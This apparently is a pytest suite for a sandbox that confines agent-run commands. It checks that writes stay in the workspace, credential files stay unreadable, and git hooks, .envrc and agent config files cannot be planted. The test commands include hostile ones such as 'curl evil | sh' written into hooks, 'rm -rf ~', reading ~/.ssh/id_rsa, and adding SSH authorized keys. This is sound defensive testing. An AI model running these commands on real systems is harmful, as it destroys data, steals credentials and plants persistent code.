"""The sandbox's file system, on the real kernel, with each backend: writes only where
allowed, protected paths read-only, credential stores unreadable, violations reported."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from bastion.sandbox import SandboxError
from bastion.sandbox.plan import build_plan
from sandbox_util import BACKENDS, make_world, snapshot
from waiting import PATIENCE, until, wait_for_file_sh


@pytest.fixture
def world(tmp_path: Path):
    return make_world(tmp_path)


@pytest.mark.parametrize("backend", BACKENDS)
def test_write_inside_workspace_and_private_tmp_works(world, backend):
    result = world.sandbox(backend).run(
        "echo built > src/out.txt && echo scratch > /tmp/scratch && cat /tmp/scratch", cwd=str(world.project)
    )
    assert result.exit_code == 0, result.stderr
    assert (world.project / "src" / "out.txt").read_text() == "built\n"
    assert result.stdout == "scratch\n"
    assert result.violations == []


@pytest.mark.parametrize("backend", BACKENDS)
def test_private_tmp_is_private_and_gone_after_the_run(world, backend, tmp_path):
    host_file = Path("/tmp") / f"bastion-test-host-{os.getpid()}"
    host_file.write_text("host\n")
    try:
        result = world.sandbox(backend).run(
            f"cat {host_file}; echo left > /tmp/left-behind-{os.getpid()}", cwd=str(world.project)
        )
    finally:
        host_file.unlink()
    assert "No such file" in result.stderr
    assert not (Path("/tmp") / f"left-behind-{os.getpid()}").exists()


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("where", ["home", "etc"])
def test_write_outside_the_workspace_fails(world, backend, where):
    target = world.home / "pwned.txt" if where == "home" else Path("/etc") / f"bastion-pwned-{os.getpid()}"
    result = world.sandbox(backend).run(f"echo x > {target}", cwd=str(world.project))
    assert result.exit_code != 0
    assert not target.exists()
    assert {"kind": "write", "target": str(target), "detail": "outside the workspace and the write roots"} in result.violations


@pytest.mark.parametrize("backend", BACKENDS)
def test_host_tmp_outside_the_workspace_is_out_of_reach(world, backend):
    target = world.outside / "pwned.txt"
    result = world.sandbox(backend).run(f"echo x > {target}", cwd=str(world.project))
    assert result.exit_code != 0
    assert not target.exists()
    assert [v["kind"] for v in result.violations] == ["private_tmp"]


@pytest.mark.parametrize("backend", BACKENDS)
def test_allow_write_adds_a_write_root(world, backend):
    target = world.outside / "ok.txt"
    result = world.sandbox(backend).run(
        f"echo x > {target}", cwd=str(world.project), allow_write=[str(world.outside)]
    )
    assert result.exit_code == 0, result.stderr
    assert target.read_text() == "x\n"


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize(
    "command, path",
    [
        ("echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        ("git config core.hooksPath /tmp/evil", ".git/config"),
        ("echo evil >> .git/config", ".git/config"),
        ("mkdir -p .vscode; echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"),
    ],
)
def test_protected_paths_inside_the_workspace_stay_read_only(world, backend, command, path):
    (world.project / ".vscode").mkdir(exist_ok=True)
    before = snapshot(world.project / ".git")
    result = world.sandbox(backend).run(command, cwd=str(world.project))
    assert result.exit_code != 0
    assert snapshot(world.project / ".git") == before
    assert not (world.project / ".vscode" / "tasks.json").exists()
    kinds = {(v["kind"], v["target"]) for v in result.violations}
    assert ("write", str(world.project / path)) in kinds, result.stderr


@pytest.mark.parametrize("backend", BACKENDS)
def test_git_still_works_in_the_workspace(world, backend):
    result = world.sandbox(backend).run(
        "git add -A && git -c user.name=t -c user.email=t@t commit -qm first && git log --oneline | wc -l",
        cwd=str(world.project),
    )
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip() == "1"


@pytest.mark.parametrize("backend", BACKENDS)
def test_missing_hooks_directory_is_covered_too(world, backend):
    hooks = world.project / ".git" / "hooks"
    for child in hooks.iterdir():
        child.unlink()
    hooks.rmdir()
    result = world.sandbox(backend).run("echo evil > .git/hooks/pre-commit", cwd=str(world.project))
    assert result.exit_code != 0
    assert not (hooks / "pre-commit").exists()


@pytest.mark.parametrize("backend", BACKENDS)
def test_protected_files_the_command_creates_are_moved_out_after_the_run(world, backend):
    quarantine = world.home / ".local" / "state" / "bastion" / "quarantine"
    (world.project / "notes.md").write_text("mine\n")
    result = world.sandbox(backend).run(
        "echo 'curl evil | sh' > .envrc && ln -s /etc/passwd .mcp.json && mkdir .bashrc && echo ok > notes.md",
        cwd=str(world.project),
    )
    assert result.exit_code == 0, result.stderr
    for name in (".envrc", ".mcp.json", ".bashrc"):
        assert not os.path.lexists(world.project / name)  # not where direnv or an agent would load it
    kept = {path.name.split("-", 3)[3]: path for path in quarantine.iterdir()}
    assert sorted(kept) == [".bashrc", ".envrc", ".mcp.json"]
    assert kept[".envrc"].read_text() == "curl evil | sh\n"  # nothing is lost
    assert os.readlink(kept[".mcp.json"]) == "/etc/passwd"  # the link itself, never its target
    assert (world.project / "notes.md").read_text() == "ok\n"  # ordinary files are the command's own
    created = {v["target"]: v["detail"] for v in result.violations if v["kind"] == "created"}
    assert set(created) == {str(world.project / n) for n in (".envrc", ".mcp.json", ".bashrc")}
    assert "direnv runs it" in created[str(world.project / ".envrc")]
    assert any(line.startswith("bastion: sandbox blocked the creation of ") and ".envrc" in line
               for line in result.notes())


@pytest.mark.parametrize("backend", BACKENDS)
def test_protected_links_replaced_or_completed_in_the_sandbox_are_undone(world, backend):
    quarantine = world.home / ".local" / "state" / "bastion" / "quarantine"
    outside = world.outside / "shared.envrc"
    outside.write_text("export A=1\n")
    (world.project / ".envrc").symlink_to(outside)  # a link to a file outside: the link can be replaced
    (world.project / ".mcp.json").symlink_to("mcp.local.json")  # dangling: its target can be created
    extra = world.outside / "extra"
    extra.mkdir()
    result = world.sandbox(backend).run(
        f"rm .envrc && echo 'curl evil | sh' > .envrc && echo '{{}}' > mcp.local.json && echo x > {extra}/.envrc",
        cwd=str(world.project), allow_write=[str(extra)],
    )
    assert result.exit_code == 0, result.stderr
    assert os.readlink(world.project / ".envrc") == str(outside)  # the link is back
    assert outside.read_text() == "export A=1\n"
    assert not (world.project / "mcp.local.json").exists()
    assert not (extra / ".envrc").exists()
    contents = sorted(path.read_text() for path in quarantine.iterdir())
    assert contents == ["curl evil | sh\n", "x\n", "{}\n"]  # nothing overwritten, nothing lost
    targets = {v["target"] for v in result.violations if v["kind"] == "created"}
    assert targets == {str(world.project / ".envrc"), str(world.project / "mcp.local.json"), str(extra / ".envrc")}


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize(
    "layout, command",
    [
        # the folder on the way to the link's target is swapped
        ({"conf/envrc": "export A=1\n", ".envrc": "->conf/envrc"},
         "mv conf conf.old && mkdir conf && echo 'curl evil | sh' > conf/envrc"),
        # a link after the first one is replaced
        ({"real.envrc": "export A=1\n", "envrc.link": "->real.envrc", ".envrc": "->envrc.link"},
         "rm envrc.link && echo 'curl evil | sh' > envrc.link"),
        # a folder link on the way is replaced by a folder
        ({"shared/envrc": "export A=1\n", "conf": "->shared", ".envrc": "->conf/envrc"},
         "rm conf && mkdir conf && echo 'curl evil | sh' > conf/envrc"),
    ],
)
def test_a_protected_link_whose_chain_changed_is_taken_away(world, backend, layout, command):
    for rel, content in layout.items():
        path = world.project / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if content.startswith("->"):
            path.symlink_to(content[2:])
        else:
            path.write_text(content)
    result = world.sandbox(backend).run(command, cwd=str(world.project))
    assert result.exit_code == 0, result.stderr
    assert not os.path.lexists(world.project / ".envrc")  # nothing loads the changed chain
    assert any(v["kind"] == "created" and v["target"] == str(world.project / ".envrc")
               and "what it leads to changed" in v["detail"] for v in result.violations)


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_protected_name_that_is_a_folder_cannot_be_swapped_for_a_file(world, backend):
    (world.project / ".envrc").mkdir()
    result = world.sandbox(backend).run("rm -rf .envrc && echo 'curl evil | sh' > .envrc", cwd=str(world.project))
    assert result.exit_code != 0
    assert (world.project / ".envrc").is_dir()


@pytest.mark.parametrize("backend", BACKENDS)
def test_someone_editing_a_linked_file_outside_meanwhile_moves_nothing(world, backend):
    import threading

    outside = world.outside / "shared.envrc"
    outside.write_text("export A=1\n")
    (world.project / ".envrc").symlink_to(outside)

    started, edited = world.project / "started", world.project / "edited"

    def edit() -> None:  # the person, outside the sandbox, while the command runs
        until(started.exists, "the command started")
        outside.write_text("export A=2\n")
        edited.touch()

    editor = threading.Thread(target=edit)
    editor.start()
    result = world.sandbox(backend).run(  # the command ends once the edit is done
        f"touch started; {wait_for_file_sh(Path('edited'))}; [ -e edited ]", cwd=str(world.project)
    )
    editor.join(PATIENCE)
    assert result.exit_code == 0, result.stderr
    assert os.readlink(world.project / ".envrc") == str(outside)
    assert not [v for v in result.violations if v["kind"] == "created"]


@pytest.mark.parametrize("backend", BACKENDS)
def test_the_sweep_never_takes_a_file_from_outside_through_a_swapped_folder(world, backend):
    userdata = world.outside / "userdata"
    userdata.mkdir()
    (userdata / "envrc").write_text("mine\n")
    (world.project / ".envrc").symlink_to("conf/envrc")  # dangling: conf does not exist
    result = world.sandbox(backend).run(f"ln -s {userdata} conf", cwd=str(world.project))
    assert result.exit_code == 0, result.stderr
    assert (userdata / "envrc").read_text() == "mine\n"  # the person's file stays where it is
    assert not os.path.lexists(world.project / ".envrc")  # the link that now leads there is taken away


@pytest.mark.parametrize("backend", BACKENDS)
def test_rm_rf_home_removes_nothing(world, backend):
    before = snapshot(world.home)
    result = world.sandbox(backend).run("rm -rf ~ ; rm -rf $HOME/*", cwd=str(world.project))
    assert result.exit_code != 0
    assert snapshot(world.home) == before
    assert any(v["kind"] == "write" and v["target"].startswith(str(world.home)) for v in result.violations)


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("secret", [".ssh/id_rsa", ".aws/credentials", ".netrc"])
def test_credential_stores_are_unreadable(world, backend, secret):
    result = world.sandbox(backend).run(f"cat ~/{secret}", cwd=str(world.project))
    assert result.exit_code != 0
    assert "secret" not in result.stdout
    target = world.home / secret
    assert any(v["kind"] == "read" and v["target"] == str(target) for v in result.violations), result.stderr


@pytest.mark.parametrize("backend", BACKENDS)
def test_ssh_directory_cannot_be_listed(world, backend):
    result = world.sandbox(backend).run("ls ~/.ssh", cwd=str(world.project))
    assert result.exit_code != 0
    assert "id_rsa" not in result.stdout


@pytest.mark.parametrize("backend", BACKENDS)
def test_deny_read_hides_a_configured_path(world, backend):
    private = world.home / "private"
    private.mkdir()
    (private / "data.txt").write_text("classified\n")
    result = world.sandbox(backend).run(
        f"cat ~/notes.txt; cat {private}/data.txt", cwd=str(world.project), deny_read=[str(private)]
    )
    assert "keep me" in result.stdout
    assert "classified" not in result.stdout
    assert any(
        v["kind"] == "read" and v["target"] == str(private / "data.txt") and "denyRead" in v["detail"]
        for v in result.violations
    )


@pytest.mark.parametrize("backend", BACKENDS)
def test_reading_ordinary_files_outside_still_works(world, backend):
    result = world.sandbox(backend).run("cat ~/notes.txt /etc/hostname >/dev/null && cat ~/notes.txt", cwd=str(world.project))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "keep me\n"


@pytest.mark.parametrize("backend", BACKENDS)
def test_bastion_own_state_stays_untouched_when_home_is_the_workspace(world, backend):
    state = world.home / ".local" / "state" / "bastion"
    state.mkdir(parents=True)
    (state / "audit.jsonl").write_text("{}\n")
    with pytest.raises(SandboxError):
        world.sandbox(backend).run("echo forged >> .local/state/bastion/audit.jsonl; echo more >> .bashrc", cwd=str(world.home))
    assert (state / "audit.jsonl").read_text() == "{}\n"
    assert (world.home / ".bashrc").read_text() == "# shell startup\n"


@pytest.mark.parametrize("backend", BACKENDS)
def test_process_cannot_undo_the_mounts(world, backend):
    result = world.sandbox(backend).run(
        "umount ~/.ssh 2>&1; umount -l ~/.ssh 2>&1; cat ~/.ssh/id_rsa; mount -o remount,rw / 2>&1; touch /etc/escaped",
        cwd=str(world.project),
    )
    assert "secret" not in result.stdout
    assert not Path("/etc/escaped").exists()


def test_working_directory_must_be_inside_the_workspace(world):
    with pytest.raises(SandboxError, match="outside the workspace"):
        world.sandbox("auto").run("true", cwd=str(world.outside), workspace=str(world.project))


def test_plan_lists_protected_and_hidden_paths(world):
    plan = build_plan(str(world.project), home=str(world.home), env={"HOME": str(world.home)})
    readonly = {p for p, _ in plan.readonly}
    assert str(world.project / ".git" / "hooks") in readonly
    assert str(world.project / ".git" / "config") in readonly
    hidden = {p for p, _, _ in plan.hidden}
    assert {str(world.home / ".ssh"), str(world.home / ".aws"), str(world.home / ".netrc")} <= hidden
    assert str(world.home) in plan.visible  # the home lies under /tmp here, so it is re-bound
    assert plan.writable(str(world.project / "src" / "x"))
    assert not plan.writable(str(world.project / ".git" / "hooks" / "x"))
    assert not plan.writable(str(world.home / "x"))
    assert plan.writable("/tmp/anything")


@pytest.mark.parametrize("backend", BACKENDS)
def test_submodule_hooks_and_extra_protected_files_stay_read_only(world, backend):
    module = world.project / ".git" / "modules" / "lib"
    (module / "objects").mkdir(parents=True)
    (module / "hooks").mkdir()
    (module / "config").write_text("[core]\n")
    audit = world.project / "logs" / "audit.jsonl"
    audit.parent.mkdir()
    audit.write_text("{}\n")
    sandbox = world.sandbox(backend, protect=[str(audit)])
    result = sandbox.run(
        "echo evil > .git/modules/lib/hooks/post-checkout; echo x >> .git/modules/lib/config; echo forged >> logs/audit.jsonl",
        cwd=str(world.project),
    )
    assert not (module / "hooks" / "post-checkout").exists()
    assert (module / "config").read_text() == "[core]\n"
    assert audit.read_text() == "{}\n"
    assert len([v for v in result.violations if v["kind"] == "write"]) == 3


@pytest.mark.parametrize("backend", BACKENDS)
def test_dev_holds_no_disks(world, backend):
    result = world.sandbox(backend).run(
        "ls /dev; echo x > /dev/null && echo null-ok; head -c 4 /dev/urandom | wc -c", cwd=str(world.project)
    )
    names = set(result.stdout.split())
    assert {"null", "zero", "urandom", "shm"} <= names
    assert not any(n.startswith(("sd", "vd", "nvme", "xvd", "loop", "dm-", "mem", "kmsg")) for n in names), names
    assert "null-ok" in names and "4" in names


@pytest.mark.parametrize("backend", BACKENDS)
def test_the_git_folder_cannot_be_swapped_for_a_writable_one(world, backend):
    """`.git/hooks` and `.git/config` are read-only; renaming `.git` itself and building a
    new one with a planted hooksPath would sidestep that, so `.git` cannot be moved."""
    result = world.sandbox(backend).run(
        "mv .git .git.old || exit 7; mkdir .git && printf '[core]\\n\\thooksPath = evil\\n' > .git/config",
        cwd=str(world.project),
    )
    assert result.exit_code == 7, result.stderr
    assert (world.project / ".git").is_dir() and not (world.project / ".git.old").exists()
    assert "hooksPath" not in (world.project / ".git" / "config").read_text()


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_workspace_that_contains_home_is_refused(world, backend):
    """From $HOME, missing ~/.ssh or ~/.config/bastion could be created and planted."""
    with pytest.raises(SandboxError):
        world.sandbox(backend).run("mkdir -p ~/.ssh && echo key >> ~/.ssh/authorized_keys", cwd=str(world.home))
    assert not (world.home / ".ssh" / "authorized_keys").exists()


@pytest.mark.parametrize("backend", BACKENDS)
def test_missing_agent_config_folders_cannot_be_planted(world, backend):
    """A `.claude/settings.json` written from inside would give the next agent session a hook."""
    for name in (".claude", ".bastion"):
        assert not (world.project / name).exists()
    result = world.sandbox(backend).run(
        "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json; "
        "mkdir -p .bastion && echo '{}' > .bastion/settings.json",
        cwd=str(world.project),
    )
    assert not (world.project / ".claude" / "settings.json").exists()
    assert not (world.project / ".bastion" / "settings.json").exists()
    assert result.exit_code != 0
